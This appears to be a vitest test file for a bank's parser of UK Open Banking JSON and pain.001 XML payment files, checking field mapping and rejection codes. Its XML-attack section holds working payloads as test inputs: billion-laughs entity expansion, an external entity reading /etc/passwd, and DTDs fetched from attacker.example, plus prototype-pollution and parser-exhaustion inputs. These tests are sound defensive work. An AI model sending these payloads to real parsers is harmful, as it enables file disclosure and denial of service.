import { describe, expect, test } from 'vitest'
import { Problem, problems } from '#bank/base/problem.ts'
import { parseFile } from '#bank/files/parse-file.ts'
import { type FileType, maxPayments } from '#bank/payments/file-announcement.ts'
import { bytesOf, pain001, type Told, ukJson, ukJson31 } from '#test/support/payments/file-examples.ts'

const json = 'UK.OBIE.PaymentInitiation.4.0'
const json31 = 'UK.OBIE.PaymentInitiation.3.1'
const xml = 'UK.OBIE.pain.001.001.08'

const read = (type: FileType, content: string | Uint8Array) =>
  parseFile(type, typeof content === 'string' ? bytesOf(content) : content)

/**
 * Returns how a file is rejected: the problem, the standard's code and the path in the file.
 * Returns `taken` for an accepted file.
 */
async function refusal(type: FileType, content: string | Uint8Array): Promise<string> {
  try {
    await read(type, content)
    return 'taken'
  } catch (error) {
    if (!(error instanceof Problem)) throw error
    const [{ code, path }] = error.faults
    return [code, problems[code].standard, ...(path === undefined ? [] : [path])].join(' ')
  }
}

const payments: readonly Told[] = [
  { amount: '21.00', instrument: 'UK.OBIE.CHAPS', reference: 'Rent & rates' },
  { amount: '22.50', to: 'GB29NWBK60161331926819', name: 'Ada "Byron" <Lovelace>', reference: 'Invoice 7' },
]
const escaped = payments.map((one) => ({
  ...one,
  ...(one.name !== undefined && { name: 'Ada &quot;Byron&#34; &lt;Lovelace&#x3E;' }),
  ...(one.reference !== undefined && { reference: one.reference.replace('&', '&amp;') }),
}))

describe('a file has the same payments in every format', () => {
  const account = (SchemeName: string, Identification: string, Name: string) => ({ SchemeName, Identification, Name })
  const bob = account('UK.OBIE.SortCodeAccountNumber', '08080021325698', 'Bob Clements')
  const ada = account('UK.OBIE.IBAN', 'GB29NWBK60161331926819', 'Ada "Byron" <Lovelace>')

  test('UK JSON 4.0: each payment is an initiation, unchanged', async () => {
    const { entries, days } = await read(json, ukJson(payments))
    expect(entries.map(({ initiation }) => initiation)).toEqual(JSON.parse(ukJson(payments)).Data.DomesticPayments)
    expect(days).toEqual([])
  })

  test('UK JSON 3.1: reference and text map to the fields of version 4.0', async () => {
    const { entries } = await read(json31, ukJson31([{ amount: '1.00' }]))
    expect(entries.map(({ initiation }) => initiation)).toEqual([
      {
        InstructionIdentification: 'ANSM0',
        EndToEndIdentification: 'FRESCO.0',
        InstructedAmount: { Amount: '1.00', Currency: 'GBP' },
        CreditorAccount: bob,
        RemittanceInformation: {
          Structured: [{ CreditorReferenceInformation: { Reference: 'FRESCO-037' } }],
          Unstructured: ['Internal ops code 5120103'],
        },
      },
    ])
  })

  test('pain.001: each transfer maps to a domestic payment', async () => {
    const { entries, days } = await read(xml, pain001(escaped))
    const DebtorAccount = account('UK.OBIE.SortCodeAccountNumber', '60000000000001', 'Example Ltd')
    expect(entries.map(({ initiation }) => initiation)).toEqual([
      {
        InstructionIdentification: 'ANSM0',
        EndToEndIdentification: 'FRESCO.0',
        LocalInstrument: 'UK.OBIE.CHAPS',
        InstructedAmount: { Amount: '21.00', Currency: 'GBP' },
        DebtorAccount,
        CreditorAccount: bob,
        RemittanceInformation: { Unstructured: ['Rent & rates'] },
      },
      {
        InstructionIdentification: 'ANSM1',
        EndToEndIdentification: 'FRESCO.1',
        InstructedAmount: { Amount: '22.50', Currency: 'GBP' },
        DebtorAccount,
        CreditorAccount: ada,
        RemittanceInformation: { Unstructured: ['Invoice 7'] },
      },
    ])
    expect(days).toEqual([{ day: '2026-11-24', path: 'Document.CstmrCdtTrfInitn.PmtInf.0.ReqdExctnDt' }])
  })

  test('pain.001: accepts a sort code at the agent with an account number of 8 digits', async () => {
    const apart = pain001([{ amount: '1.00', to: '21325698' }]).replace(
      '<Cdtr>',
      '<CdtrAgt><FinInstnId><ClrSysMmbId><ClrSysId><Cd>GBDSC</Cd></ClrSysId><MmbId>080800</MmbId></ClrSysMmbId></FinInstnId></CdtrAgt><Cdtr>',
    )
    expect((await read(xml, apart)).entries[0]?.initiation.CreditorAccount).toEqual(bob)
  })

  test('pain.001: several groups are one file, and each payment keeps its position', async () => {
    const one = pain001([{ amount: '1.00' }])
    const group = /<PmtInf>[\s\S]*<\/PmtInf>/.exec(one)?.[0] as string
    const two = one
      .replace(group, group + group)
      .replace('<NbOfTxs>1</NbOfTxs>\n      <CtrlSum>1.00', '<NbOfTxs>2</NbOfTxs>\n      <CtrlSum>2.00')
    const { entries } = await read(xml, two)
    expect(entries.map(({ pathOf: placeOf }) => placeOf('InstructedAmount.Amount'))).toEqual([
      'Document.CstmrCdtTrfInitn.PmtInf.0.CdtTrfTxInf.0.Amt.InstdAmt',
      'Document.CstmrCdtTrfInitn.PmtInf.1.CdtTrfTxInf.0.Amt.InstdAmt',
    ])
  })
})

describe('a file in UK JSON is rejected with a path into it', () => {
  const file = () => JSON.parse(ukJson(payments))
  const but = (change: (one: ReturnType<typeof file>) => void) => {
    const changed = file()
    change(changed)
    return JSON.stringify(changed)
  }
  const first = 'Data.DomesticPayments.0'

  test.each<[what: string, content: string | Uint8Array, said: string]>([
    ['that is no JSON', '{"Data":', 'body-malformed U010'],
    ['that is no object', '[]', 'body-malformed U010'],
    ['that is not in UTF-8', Uint8Array.of(0x7b, 0xff, 0x7d), 'body-malformed U010'],
    ['that begins with a byte order mark', '\uFEFF{}', 'body-malformed U010'],
    ['that is empty', '', 'body-malformed U010'],
    ['that nests without end', `{"Data":${'['.repeat(50_000)}${']'.repeat(50_000)}}`, 'body-malformed U010'],
    ['without payments', '{"Data":{"DomesticPayments":[]}}', 'field-invalid U002 Data.DomesticPayments'],
    ['of another shape', '{"Payments":[]}', 'field-missing U004 Data'],
    ['with more beside its payments', but((one) => (one.Risk = {})), 'field-unexpected U005 Risk'],
    [
      'with an unknown field',
      but((one) => (one.Data.DomesticPayments[0].Colour = 1)),
      `field-unexpected U005 ${first}.Colour`,
    ],
    [
      'with a missing field',
      but((one) => delete one.Data.DomesticPayments[0].CreditorAccount.Name),
      `field-missing U004 ${first}.CreditorAccount.Name`,
    ],
    [
      'with an amount that is a number',
      but((one) => (one.Data.DomesticPayments[0].InstructedAmount.Amount = 21)),
      `field-invalid U002 ${first}.InstructedAmount.Amount`,
    ],
    [
      'that names what every object has',
      '{"Data":{"DomesticPayments":[],"__proto__":{"x":1}}}',
      'field-invalid U002 Data.DomesticPayments',
    ],
  ])('one %s', async (_, content, said) => {
    expect(await refusal(json, content)).toBe(said)
  })

  test('a file of version 4.0 that is announced as 3.1', async () => {
    expect(await refusal(json31, ukJson([{ amount: '1.00', reference: 'x' }]))).toBe(
      `field-invalid U002 ${first}.RemittanceInformation.Unstructured`,
    )
  })

  test('a file with one payment too many', async () => {
    const many = Array.from({ length: maxPayments + 1 }, () => ({ amount: '1.00' }))
    expect(await refusal(json, ukJson(many.slice(1)))).toBe('taken')
    expect(await refusal(json, ukJson(many))).toBe('field-invalid U002 Data.DomesticPayments')
  })
})

describe('a file in pain.001 is rejected with a path into it', () => {
  const top = 'Document.CstmrCdtTrfInitn'
  const first = `${top}.PmtInf.0.CdtTrfTxInf.0`
  const file = pain001([{ amount: '21.00' }, { amount: '22.50' }])

  test.each<[what: string, from: string, to: string, said: string]>([
    ['of another version', 'pain.001.001.08"', 'pain.001.001.03"', 'field-invalid U002 Document.@xmlns'],
    ['whose header counts wrong', '<NbOfTxs>2', '<NbOfTxs>3', `field-invalid U002 ${top}.GrpHdr.NbOfTxs`],
    [
      'whose header adds up wrong, by a penny',
      '<CtrlSum>43.50',
      '<CtrlSum>43.51',
      `field-invalid U002 ${top}.GrpHdr.CtrlSum`,
    ],
    [
      'whose group counts wrong',
      '</PmtMtd>\n      <NbOfTxs>2',
      '</PmtMtd>\n      <NbOfTxs>1',
      `field-invalid U002 ${top}.PmtInf.0.NbOfTxs`,
    ],
    [
      'whose group adds up wrong',
      '<ReqdExctnDt>',
      '<CtrlSum>43.49</CtrlSum><ReqdExctnDt>',
      `field-invalid U002 ${top}.PmtInf.0.CtrlSum`,
    ],
    ['that pays by cheque', '<PmtMtd>TRF', '<PmtMtd>CHK', `field-invalid U002 ${top}.PmtInf.0.PmtMtd`],
    [
      'with an element that is not understood',
      '<Cdtr>',
      '<Purp><Cd>SALA</Cd></Purp><Cdtr>',
      `field-unexpected U005 ${first}.Purp`,
    ],
    [
      'with an amount without a currency',
      '<InstdAmt Ccy="GBP">21.00',
      '<InstdAmt>21.00',
      `field-invalid U002 ${first}.Amt.InstdAmt`,
    ],
    ['with an amount below zero', '>21.00<', '>-21.00<', `field-invalid U002 ${first}.Amt.InstdAmt.#text`],
    [
      'with an equivalent amount',
      '<InstdAmt Ccy="GBP">21.00</InstdAmt>',
      '<EqvtAmt/>',
      `field-missing U004 ${first}.Amt.InstdAmt`,
    ],
    [
      'with a payee without a name',
      '<Cdtr><Nm>Bob Clements</Nm></Cdtr>',
      '<Cdtr/>',
      `field-invalid U002 ${first}.Cdtr`,
    ],
    [
      'with an account that is named twice',
      '<Othr><Id>08080021325698</Id></Othr>',
      '<IBAN>GB1</IBAN><Othr><Id>1</Id></Othr>',
      `field-invalid U002 ${first}.CdtrAcct.Id`,
    ],
    ['with a text between elements', '<PmtMtd>', 'stray<PmtMtd>', `field-unexpected U005 ${top}.PmtInf.0.#text`],
    [
      'with an element twice',
      '<PmtMtd>TRF</PmtMtd>',
      '<PmtMtd>TRF</PmtMtd><PmtMtd>TRF</PmtMtd>',
      `field-invalid U002 ${top}.PmtInf.0.PmtMtd`,
    ],
    ['with a second root', '</Document>', '</Document><Other/>', 'field-unexpected U005 Other'],
    ['that is cut off', '</Document>', '', 'body-malformed U010'],
    ['with crossed elements', '</Cdtr>', '</Dbtr>', 'body-malformed U010'],
    ['in another encoding', 'encoding="UTF-8"', 'encoding="ISO-8859-1"', 'body-malformed U010'],
  ])('one %s', async (_, from, to, said) => {
    const changed = file.replace(from, to)
    expect(changed).not.toBe(file)
    expect(await refusal(xml, changed)).toBe(said)
  })

  test('a file of another message type', async () => {
    const report = file.replaceAll('CstmrCdtTrfInitn>', 'CstmrPmtStsRpt>')
    expect(await refusal(xml, report)).toBe(`field-missing U004 ${top}`)
  })

  test('a file with one payment too many over all groups', async () => {
    const half = Array.from({ length: maxPayments / 2 }, () => ({ amount: '1.00' }))
    const one = pain001([...half, { amount: '1.00' }])
    const group = /<PmtInf>[\s\S]*<\/PmtInf>/.exec(one)?.[0] as string
    expect(await refusal(xml, one.replace(group, group + group))).toBe(`field-invalid U002 ${top}.PmtInf`)
  })
})

test('an element with only optional children may be empty', async () => {
  const file = pain001([{ amount: '1.00', reference: 'r' }])
  const none = 'NOTPROVIDED'
  const bare = file
    .replaceAll('<Nm>Example Ltd</Nm>', '')
    .replace(`<FinInstnId><Othr><Id>${none}</Id></Othr></FinInstnId>`, '<FinInstnId/>')
    .replace('<Ustrd>r</Ustrd>', '')
  for (const empty of ['<InitgPty></InitgPty>', '<Dbtr></Dbtr>', '<FinInstnId/>', '<RmtInf></RmtInf>'])
    expect(bare).toContain(empty)
  const [entry] = (await read(xml, bare)).entries
  expect(entry?.initiation).toMatchObject({ InstructedAmount: { Amount: '1.00' } })
})

describe('an XML attack is rejected at once', () => {
  const root = (inside: string, before = '') => `<?xml version="1.0"?>${before}<Document>${inside}</Document>`
  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n};`.repeat(10)}">`).join('')

  test.each([
    ['a billion laughs', root('&lol9;', `<!DOCTYPE lolz [<!ENTITY lol0 "lol">${laughs}]>`)],
    ['quadratic growth', root('&a;'.repeat(10_000), `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(10_000)}">]>`)],
    ['an external entity', root('&x;', '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
    ['an external entity of the document type', root('', '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">')],
    ['a parameter entity', root('', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>')],
    ['a document type in small letters', root('', '<!doctype x>')],
    ['an entity that is not declared', root('&nbsp;')],
    ['a character that there is not', root('<MsgId>&#x110000;</MsgId>')],
    ['half a character', root('<MsgId>&#xD800;</MsgId>')],
    ['a control character by number', root('<MsgId>&#7;</MsgId>')],
    ['a control character', root('<MsgId>\u0007</MsgId>')],
    ['what is no character, by number', root('<MsgId>&#xFFFE;</MsgId>')],
    ['an element that is no XML name', root('<__proto__><x>1</x></__proto__>')],
    ['elements without end', root('<a>'.repeat(100_000) + '</a>'.repeat(100_000))],
    ['a CDATA section', root('<![CDATA[<!ENTITY]]>')],
  ])('%s', async (_, content) => {
    const before = performance.now()
    expect(await refusal(xml, content)).toBe('body-malformed U010')
    expect(performance.now() - before).toBeLessThan(2_000)
  })

  test('an element named like a property of every object is rejected by name', async () => {
    expect(await refusal(xml, root('<toString>1</toString>'))).toMatch(/^(field-|body-malformed)/)
  })

  test('ten thousand escaped characters are accepted', async () => {
    const polite = pain001([
      { amount: '1.00', reference: '&amp;'.repeat(28) },
      ...Array.from({ length: 400 }, () => ({ amount: '1.00', reference: '&amp;'.repeat(28) })),
    ])
    const { entries } = await read(xml, polite)
    expect(entries[0]?.initiation.RemittanceInformation?.Unstructured).toEqual(['&'.repeat(28)])
  })
})

describe('an XML file that would keep the parser busy is rejected before it is parsed', () => {
  const repeat = (count: number, part: (n: number) => string) =>
    Array.from({ length: count }, (_, n) => part(n)).join('')
  test.each<[what: string, content: () => string, why: string]>([
    ['100,000 attributes', () => `<a ${repeat(100_000, (n) => ` a${n}=""`)}/>`, 'at most 10 attributes'],
    ['100,000 elements with one', () => `<a>${repeat(100_000, () => '<a b=""/>')}</a>`, 'at most 6000 attributes'],
    ['100,000 names', () => `<a>${repeat(100_000, (n) => `<a${n}/>`)}</a>`, 'at most 300 different names'],
    ['a name of a megabyte', () => `<${'a'.repeat(1_000_000)}/>`, 'at most 100 characters'],
    ['200,000 elements', () => `<a>${repeat(200_000, () => '<a/>')}</a>`, 'at most 60000 elements'],
    ['100,000 processing instructions', () => `<a>${repeat(100_000, () => '<?a b?>')}</a>`, 'processing instructions'],
    ['300,000 open quotes', () => repeat(300_000, () => '<a"'), 'a tag does not end'],
    ['300,000 open comments', () => `<a>${repeat(300_000, () => '<!--')}`, 'a comment does not end'],
  ])('%s', async (_, content, why) => {
    const start = performance.now()
    await expect(read(xml, content())).rejects.toThrow(why)
    expect(performance.now() - start).toBeLessThan(1_000)
  })

  test('a file of as many payments as there may be is accepted', async () => {
    const file = pain001(Array.from({ length: maxPayments }, () => ({ amount: '1.00' })))
    expect((await read(xml, file)).entries).toHaveLength(maxPayments)
  })
})
